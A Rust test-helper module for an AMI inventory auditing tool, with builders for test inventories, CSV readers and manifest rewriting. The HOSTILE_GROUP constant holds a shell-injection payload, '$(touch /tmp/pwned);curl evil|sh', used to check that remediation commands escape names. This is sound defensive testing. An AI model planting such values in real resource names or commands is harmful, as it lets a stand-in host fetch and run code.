//! Helpers shared by the integration tests.
use std::path::{Path, PathBuf};
use std::process::Output;

use amiaudit::inventory::{
    self, Inventory, Manifest, Scope, TableBuilder, TableFormat, Value, schema,
};
use chrono::{DateTime, TimeZone, Utc};

pub fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

pub fn sample() -> PathBuf {
    repo().join("sample-data/acme")
}

pub fn amiaudit(args: &[&str]) -> Output {
    assert_cmd::Command::cargo_bin("amiaudit")
        .expect("binary built")
        .args(args)
        .output()
        .expect("run amiaudit")
}

pub fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

pub fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

pub fn path(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

pub fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 20, 0, 0, 0).unwrap()
}

/// An inventory with the given rows (table, cells); everything else empty.
/// Every account-region the rows mention was scanned: one without a
/// `regions` row gets one (`ok`), as a scanner would have written it.
pub fn inventory(rows: Vec<(&'static str, Vec<(&'static str, Value)>)>) -> Inventory {
    inventory_with(rows, |_| {})
}

/// The same, with the manifest adjusted before the inventory is checked.
pub fn inventory_with(
    rows: Vec<(&'static str, Vec<(&'static str, Value)>)>,
    adjust: impl FnOnce(&mut Manifest),
) -> Inventory {
    let mut builders: std::collections::BTreeMap<&str, TableBuilder> = schema::TABLES
        .iter()
        .map(|t| (t.name, TableBuilder::new(t)))
        .collect();
    let place = |cells: &[(&'static str, Value)]| -> Option<(Value, Value)> {
        let get = |k: &str| cells.iter().find(|(c, _)| *c == k).map(|(_, v)| v.clone());
        Some((get("account_id")?, get("region")?))
    };
    let scanned: Vec<(Value, Value)> = rows
        .iter()
        .filter(|(t, _)| *t == "regions")
        .filter_map(|(_, c)| place(c))
        .collect();
    let mut mentioned: Vec<(Value, Value)> = rows
        .iter()
        .filter(|(t, _)| !matches!(*t, "accounts" | "regions" | "scan_errors"))
        .filter_map(|(_, c)| place(c))
        .filter(|p| !scanned.contains(p))
        .collect();
    mentioned.dedup();
    let mut rows = rows;
    for (account, region) in mentioned {
        let row = (
            "regions",
            vec![
                ("account_id", account),
                ("region", region),
                ("scan_status", "ok".into()),
            ],
        );
        if !rows.contains(&row) {
            rows.push(row);
        }
    }
    for (table, cells) in rows {
        builders
            .get_mut(table)
            .unwrap_or_else(|| panic!("no table {table}"))
            .push(cells)
            .unwrap_or_else(|e| panic!("{table}: {e}"));
    }
    let tables = builders
        .into_iter()
        .map(|(name, b)| (name, b.finish().unwrap()))
        .collect();
    let mut manifest = Manifest::new(now(), Scope::default());
    manifest.scope.organization_id = Some("o-test123456".to_string());
    adjust(&mut manifest);
    Inventory::new(manifest, tables).unwrap_or_else(|e| panic!("{e}"))
}

pub fn save(inv: &Inventory, dir: &Path) {
    inventory::save(inv, dir, TableFormat::Jsonl).expect("save inventory");
}

/// Reads findings.csv into rows of column -> value.
pub fn csv_rows(path: &Path) -> Vec<std::collections::BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_path(path).expect("open csv");
    let headers = reader.headers().expect("headers").clone();
    reader
        .records()
        .map(|r| {
            let r = r.expect("record");
            headers
                .iter()
                .map(String::from)
                .zip(r.iter().map(String::from))
                .collect()
        })
        .collect()
}

pub fn status_of(
    rows: &[std::collections::BTreeMap<String, String>],
    rule: &str,
    resource: &str,
) -> Vec<String> {
    rows.iter()
        .filter(|r| r["rule_id"] == rule && r["resource_id"] == resource)
        .map(|r| r["status"].clone())
        .collect()
}

/// `amiaudit audit --inventory sample-data/acme --out OUT EXTRA...`
pub fn audit_sample(out: &Path, extra: &[&str]) -> Output {
    audit_inventory(&sample(), out, extra)
}

/// `amiaudit audit --inventory INVENTORY --out OUT EXTRA...`.
pub fn audit_inventory(inventory: &Path, out: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["audit", "--inventory", path(inventory), "--out", path(out)];
    args.extend(extra);
    amiaudit(&args)
}

/// The name of the hostile inventory's Auto Scaling group: a shell
/// command, for the remediation commands that name it.
pub const HOSTILE_GROUP: &str = "x$(touch /tmp/pwned);curl evil|sh";

/// One account with one public image, carrying attacker-chosen text in the
/// account name, image name and description (for the injection tests), and
/// an Auto Scaling group named [`HOSTILE_GROUP`] that launches an AMI gone.
pub fn hostile_inventory(account_name: &str, image_name: &str, description: &str) -> Inventory {
    inventory(vec![
        (
            "auto_scaling_groups",
            vec![
                ("account_id", "111111111111".into()),
                ("region", "eu-west-1".into()),
                ("group_name", HOSTILE_GROUP.into()),
            ],
        ),
        (
            "asg_launch_sources",
            vec![
                ("account_id", "111111111111".into()),
                ("region", "eu-west-1".into()),
                ("group_name", HOSTILE_GROUP.into()),
                ("source", "launch_configuration".into()),
                ("reference", "lc".into()),
                ("image_id", "ami-gone".into()),
                ("image_visible", false.into()),
            ],
        ),
        (
            "accounts",
            vec![
                ("account_id", "111111111111".into()),
                ("account_name", account_name.into()),
            ],
        ),
        (
            "regions",
            vec![
                ("account_id", "111111111111".into()),
                ("region", "eu-west-1".into()),
                ("scan_status", "ok".into()),
            ],
        ),
        (
            "images",
            vec![
                ("account_id", "111111111111".into()),
                ("region", "eu-west-1".into()),
                ("image_id", "ami-1".into()),
                ("name", image_name.into()),
                ("description", description.into()),
                ("state", "available".into()),
                ("public", true.into()),
            ],
        ),
    ])
}

/// Copies the sample inventory so a test can break it.
pub fn broken_copy() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for entry in std::fs::read_dir(sample()).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), dir.path().join(entry.file_name())).unwrap();
    }
    dir
}

/// Rewrites a table file and its sha256 in the manifest, so only the content is wrong.
pub fn rewrite_table(dir: &Path, file: &str, content: &str) {
    std::fs::write(dir.join(file), content).unwrap();
    let digest = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(content.as_bytes()))
    };
    let manifest_path = dir.join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&manifest_path).unwrap()).unwrap();
    let table = file.trim_end_matches(".jsonl");
    manifest["tables"][table]["sha256"] = digest.into();
    manifest["tables"][table]["rows"] = content
        .lines()
        .filter(|l| !l.trim().is_empty())
        .count()
        .into();
    std::fs::write(
        &manifest_path,
        serde_json::to_string_pretty(&manifest).unwrap(),
    )
    .unwrap();
}

/// Rewrites the inventory in `dir` (JSON Lines) as a scanner of schema
/// `version` would have written it: the tables and columns that version
/// did not have are gone, and the manifest says so.
pub fn downgrade(dir: &Path, version: u32) {
    use amiaudit::inventory::TABLES;
    let manifest_path = dir.join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&manifest_path).unwrap()).unwrap();
    manifest["schema_version"] = version.into();
    for table in TABLES {
        let file = dir.join(format!("{}.jsonl", table.name));
        if table.since > version {
            std::fs::remove_file(&file).unwrap();
            manifest["tables"]
                .as_object_mut()
                .unwrap()
                .remove(table.name);
            continue;
        }
        let text = std::fs::read_to_string(&file).unwrap();
        let mut out = String::new();
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            let mut row: serde_json::Map<String, serde_json::Value> =
                serde_json::from_str(line).unwrap();
            row.retain(|k, _| table.column(k).is_some_and(|c| c.since <= version));
            out.push_str(&serde_json::to_string(&row).unwrap());
            out.push('\n');
        }
        std::fs::write(&file, &out).unwrap();
        let digest = {
            use sha2::Digest;
            hex::encode(sha2::Sha256::digest(out.as_bytes()))
        };
        manifest["tables"][table.name]["sha256"] = digest.into();
    }
    std::fs::write(
        &manifest_path,
        serde_json::to_string_pretty(&manifest).unwrap(),
    )
    .unwrap();
}
